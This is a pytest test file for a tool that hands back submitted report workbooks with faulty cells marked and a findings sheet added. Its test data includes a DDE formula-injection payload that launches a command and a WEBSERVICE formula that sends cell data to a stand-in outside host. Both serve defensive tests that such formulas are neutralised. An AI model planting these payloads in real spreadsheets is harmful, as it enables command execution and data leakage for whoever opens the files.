"""The workbook handed back: the same cells, the offending ones marked, all findings on a first sheet."""

import io
import zipfile

import openpyxl
import pytest
import xlwt

from scicity.ingest import check_file, marked_workbook
from tests.ingest.report_files import FORM, HEADER, ROW, checked, repacked, text, workbook

WRONG = ["2020年8月", "集成电路", "00124", "约100", "万元"]


def handed_back(path, language="zh"):
    return openpyxl.load_workbook(io.BytesIO(marked_workbook(path, check_file(path, FORM), language)))


def formatted(book, sheet):
    sheet["D2"].number_format = "0.00"
    sheet.column_dimensions["B"].width = 33
    other = book.create_sheet("附表")
    other["A1"] = "不动"


def test_the_same_workbook_comes_back_with_the_cell_filled_and_commented(tmp_path):
    book = handed_back(workbook(tmp_path / "a.xlsx", [HEADER, ROW, WRONG], formatted))
    assert book.sheetnames == ["检查结果", "Sheet", "附表"]
    sheet = book["Sheet"]
    cell = sheet["D3"]
    assert (cell.value, cell.fill.fgColor.rgb) == ("约100", "FFFFC7CE")
    assert cell.comment.text == "所填为“约100”。应为数字。请只填数字，不写“约”、单位或说明；没有数据的填“--”。"
    assert sheet["D2"].comment is None and sheet["D2"].number_format == "0.00"
    assert (sheet.column_dimensions["B"].width, book["附表"]["A1"].value) == (33, "不动")


def test_the_first_sheet_lists_every_finding_with_a_link_to_its_cell(tmp_path):
    path = workbook(tmp_path / "a.xlsx", [HEADER, WRONG], lambda _, sheet: setattr(sheet, "title", "8月's"))
    front = handed_back(path, "en")["Findings"]
    lines = {row[2].value: row for row in front.iter_rows(min_row=3)}
    assert [cell.value for cell in lines["D2"]][:4] == ["Correct", "8月's", "D2", "约100"]
    assert lines["D2"][2].hyperlink.location == "'8月''s'!D2"
    # the two flags no column tells are to be checked
    assert front["A1"].value.startswith("a.xlsx: 1 to correct, 2 to check.")


def test_a_marked_workbook_corrected_and_sent_again_is_accepted_and_comes_back_clean(tmp_path):
    path = workbook(tmp_path / "a.xlsx", [HEADER, WRONG])
    book = handed_back(path)
    book["Sheet"]["D2"].value = 100
    book.save(path)
    again = checked(path)
    assert again.accepted and {one.kind for one in again.findings} == {"flag_missing"}
    cell = handed_back(path)["Sheet"]["D2"]
    assert (cell.comment, cell.fill.fill_type) == (None, None)


def test_a_text_table_comes_back_as_a_workbook_of_the_same_cells(tmp_path):
    path = text(tmp_path / "a.csv", [HEADER, ROW, WRONG], "gb18030")
    book = handed_back(path)
    sheet = book["填报数据"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [HEADER, ROW, WRONG]
    assert sheet["D3"].fill.fgColor.rgb == "FFFFC7CE" and "应为数字" in sheet["D3"].comment.text
    linked = [cell.hyperlink.location for cell in book["检查结果"]["C"] if cell.hyperlink]
    assert linked == ["'填报数据'!A1", "'填报数据'!A1", "'填报数据'!D3"]  # two flags without a column, the amount


def test_an_old_workbook_comes_back_as_a_new_one(tmp_path):
    old = xlwt.Workbook()
    page = old.add_sheet("月报")
    for row, cells in enumerate([HEADER, WRONG]):
        for position, cell in enumerate(cells):
            page.write(row, position, cell)
    old.save(str(tmp_path / "a.xls"))
    assert handed_back(tmp_path / "a.xls")["月报"]["D2"].fill.fgColor.rgb == "FFFFC7CE"


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_what_stood_in_a_cell_never_becomes_a_formula(tmp_path, ending):
    rows = [HEADER, ["2020年8月", "集成电路", "00124", "=1+1", "万元"], ["=cmd|' /C calc'!A0", *ROW[1:]]]
    path = tmp_path / f"a.{ending}"
    if ending == "csv":
        text(path, rows)
    else:
        # kept as text in the file, as one types '=1+1 with an apostrophe
        workbook(path, rows, lambda _, sheet: [setattr(sheet[at], "data_type", "s") for at in ("D2", "A3")])
    data = marked_workbook(path, check_file(path, FORM))
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [package.read(name) for name in package.namelist() if "worksheets/sheet" in name]
    assert sheets and not any(b"<f>" in one or b"<f " in one for one in sheets)


def test_a_formula_of_the_file_stays_one_unless_it_reaches_outside(tmp_path):
    def formulas(_, sheet):
        sheet["H1"], sheet["H2"] = "=SUM(D2:D2)", '=WEBSERVICE("http://example.invalid/"&C2)'

    sheet = handed_back(workbook(tmp_path / "a.xlsx", [HEADER, WRONG], formulas))["Sheet"]
    assert (sheet["H1"].data_type, sheet["H2"].data_type) == ("f", "s")


def test_a_workbook_that_must_not_be_opened_comes_back_as_its_findings_alone(tmp_path):
    plain = workbook(tmp_path / "plain.xlsx", [HEADER, ROW])
    path = repacked(plain, tmp_path / "a.xlsx", {"xl/vbaProject.bin": b"x"})
    book = handed_back(path)
    assert book.sheetnames == ["检查结果"]
    assert "宏" in book["检查结果"]["E3"].value


def test_a_finding_in_a_merged_cell_is_marked_where_the_cell_shows(tmp_path):
    rows = [HEADER, ROW, ["2020年9月", "集成电路", "00123", None, "万元"]]
    path = workbook(tmp_path / "a.xlsx", rows, lambda _, sheet: sheet.merge_cells("D2:D3"))
    assert "合并" in handed_back(path)["Sheet"]["D2"].comment.text


def test_a_finding_has_a_key_that_stays_and_a_form_for_programs(tmp_path):
    path = text(tmp_path / "a.csv", [HEADER, WRONG])
    first, again = (check_file(path, FORM).findings for _ in range(2))
    assert [one.key for one in first] == [one.key for one in again]
    assert len({one.key for one in first}) == len(first)
    told = first[-1].as_dict("en")
    assert (told["severity"], told["kind"], told["row"], told["letter"]) == ("block", "amount", 2, "D")
    assert told["expected"] == "a number was expected"
    # a reason given for one value does not excuse another
    other = check_file(text(path, [HEADER, [*WRONG[:3], "约200", "万元"]]), FORM).findings
    assert other[-1].key != first[-1].key
